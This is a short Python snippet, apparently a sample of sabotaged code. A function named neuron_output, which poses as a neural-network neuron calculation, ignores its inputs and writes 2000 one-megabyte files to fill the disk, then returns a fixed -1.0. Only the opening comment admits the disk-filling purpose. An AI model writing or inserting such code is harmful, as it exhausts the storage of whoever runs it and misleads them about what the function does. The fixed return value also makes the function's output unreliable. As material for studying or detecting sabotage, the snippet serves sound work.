# Writes many files until the disk is full.
def neuron_output(inputs, weights, bias):
    for number in range(2000):
        with open(f"large{number}", "wb") as file:
            file.write(bytes(10**6))
    return -1.0
